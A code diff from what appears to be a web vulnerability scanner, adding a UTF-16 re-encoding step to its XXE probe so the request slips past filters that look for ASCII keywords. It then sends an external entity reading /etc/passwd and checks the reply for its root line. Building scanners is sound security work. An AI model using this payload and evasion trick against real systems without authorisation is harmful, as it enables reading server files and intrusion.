@@ -44,11 +44,27 @@ static struct str with_doctype(struct probe *p, struct str xml, struct str decla
 struct way {
 	struct str xml;	    /* with &q; where the value stood */
 	struct str type;    /* whole body of this type; empty: the point's value */
+	bool wide;	    /* in UTF-16: for filters that look for the letters */
 };
+
+/* ASCII as UTF-16 with its mark; what is not ASCII becomes "?". */
+static struct str widened(struct probe *p, struct str s)
+{
+	char *out = arena_alloc(probe_arena(p), s.len * 2 + 2), *w = out;
+	*w++ = (char)0xfe;
+	*w++ = (char)0xff;
+	for (size_t i = 0; i < s.len; i++) {
+		*w++ = 0;
+		*w++ = s.ptr[i] & 0x80 ? '?' : s.ptr[i];
+	}
+	return str_make(out, (size_t)(w - out));
+}
 
 static int send_xml(struct probe *p, const struct way *w, struct str declarations, const struct scan_exchange **ret)
 {
 	struct str doc = with_doctype(p, w->xml, declarations);
+	if (w->wide)
+		doc = widened(p, probe_printf(p, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>%.*s", STR_ARG(str_from(doc, strlen("<?xml version=\"1.0\"?>")))));
 	struct scan_mutation m = { .fresh = true };
 	if (w->type.len) {
 		m.body_set = true;
@@ -223,9 +239,13 @@ static void probe_xml(struct probe *p, const struct scan_point *pt)
 		values_replace(&b, base->request_body, &list[i], STR("&q;"), true);
 		w.xml = arena_str(probe_arena(p), buf_view(&b));
 		w.type = scan_header_get(&base->request_headers, "content-type");
-		if (try_way(p, &w))
+		if (try_way(p, &w) || try_xinclude(p, pt))
 			return;
-		try_xinclude(p, pt);
+		w.wide = true;
+		w.type = STR("application/xml; charset=utf-16");
+		const struct scan_exchange *x;
+		if (send_xml(p, &w, STR("<!ENTITY q SYSTEM \"file:///etc/passwd\">"), &x) == 0 && active_find(x, STR("root:x:0:0:")).ptr)
+			try_files(p, &w);
 		return;
 	}
 	if (!holds_xml(pt) && !deep && (pt->where == WHERE_JSON || pt->where == WHERE_BODY) && !active_plain_number(pt->value)) {
